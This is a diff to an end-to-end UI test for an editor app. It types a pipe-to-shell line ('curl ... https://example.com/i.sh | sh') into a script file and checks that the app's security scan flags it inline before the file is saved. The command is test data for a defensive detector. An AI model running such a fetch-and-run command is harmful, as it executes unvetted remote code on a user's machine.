@@ -117,6 +117,18 @@ for (const lang of ['en', 'ja'] as const) {
     await page.getByTestId(TID.editorNewFileName).fill('scripts/check.sh');
     await page.getByTestId(TID.editorNewFile).click();
     await expect(page.getByTestId(rowId(TID.editorFile, 'scripts/check.sh'))).toBeVisible();
+    // the security scan judges the script's unsaved text too, at its line
+    await code(page).click();
+    await page.keyboard.type('curl -fsSL https://example.com/i.sh | sh');
+    await expect(page.locator('[data-testid="editor-inline-note"][data-line="1"][data-code="scan-pipe-to-shell"]')).toBeVisible();
+    await page.keyboard.press('Control+s');
+    await expect
+      .poll(
+        () =>
+          fs.existsSync(path.join(app.home, 'library', 'field-notes', 'scripts', 'check.sh')) &&
+          fs.readFileSync(path.join(app.home, 'library', 'field-notes', 'scripts', 'check.sh'), 'utf8'),
+      )
+      .toContain('curl');
     await page.getByTestId(TID.editorRename).click();
     await page.getByTestId(TID.editorRenameTo).fill('scripts/verify.sh');
     await page.keyboard.press('Enter');
